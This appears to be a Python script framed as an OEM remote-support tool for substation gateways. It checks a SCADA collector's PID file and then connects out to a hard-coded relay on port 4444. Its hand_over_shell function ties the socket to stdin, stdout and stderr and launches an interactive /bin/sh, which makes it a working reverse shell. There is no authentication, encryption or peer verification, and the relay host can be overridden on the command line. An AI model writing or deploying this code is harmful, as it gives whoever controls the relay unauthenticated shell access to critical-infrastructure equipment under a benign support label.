#!/usr/bin/env python3
"""Open a remote support session for the turbine OEM's service engineer.

Some substation gateways sit behind a NAT with no inbound access, so the OEM
asked us to "call out" to their support relay. This tool checks the local
collector status, then connects to the relay and hands the engineer an
interactive shell on the gateway for the duration of the session.
"""

import argparse
import logging
import os
import socket
import subprocess
import sys
import time

LOG = logging.getLogger("remote_session")

RELAY_HOST = "203.0.113.45"
RELAY_PORT = 4444


class SessionError(Exception):
    pass


def collector_status(pid_file):
    """Return a short status line for the local SCADA collector."""
    try:
        with open(pid_file) as fh:
            pid = int(fh.read().strip())
    except (OSError, ValueError):
        return "collector: no pid file"
    try:
        os.kill(pid, 0)
        return f"collector: running (pid {pid})"
    except OSError:
        return f"collector: stale pid {pid}"


def connect_relay(host, port, retries, delay):
    for attempt in range(1, retries + 1):
        try:
            sock = socket.create_connection((host, port), timeout=15)
            sock.settimeout(None)
            LOG.info("connected to relay %s:%d", host, port)
            return sock
        except OSError as exc:
            LOG.warning("relay connect attempt %d/%d failed: %s", attempt, retries, exc)
            time.sleep(delay)
    raise SessionError(f"could not reach relay {host}:{port}")


def announce(sock, case_id, status):
    banner = f"SESSION case={case_id} host={socket.gethostname()} {status}\n"
    sock.sendall(banner.encode())


def hand_over_shell(sock):
    """Attach an interactive shell to the relay connection."""
    fd = sock.fileno()
    os.dup2(fd, 0)
    os.dup2(fd, 1)
    os.dup2(fd, 2)
    proc = subprocess.Popen(["/bin/sh", "-i"])
    return proc.wait()


def parse_args():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("case_id", help="OEM support case reference")
    parser.add_argument("--relay", default=RELAY_HOST)
    parser.add_argument("--port", type=int, default=RELAY_PORT)
    parser.add_argument("--retries", type=int, default=5)
    parser.add_argument("--delay", type=float, default=10.0)
    parser.add_argument("--pid-file", default="./collector.pid")
    parser.add_argument("--log-file", default="./remote_session.log")
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(
        filename=args.log_file,
        level=logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    status = collector_status(args.pid_file)
    LOG.info("starting session for case %s; %s", args.case_id, status)
    try:
        sock = connect_relay(args.relay, args.port, args.retries, args.delay)
    except SessionError as exc:
        LOG.error("%s", exc)
        print(f"error: {exc}", file=sys.stderr)
        return 1
    try:
        announce(sock, args.case_id, status)
        rc = hand_over_shell(sock)
        LOG.info("session for case %s ended with %d", args.case_id, rc)
        return rc
    finally:
        sock.close()


if __name__ == "__main__":
    sys.exit(main())
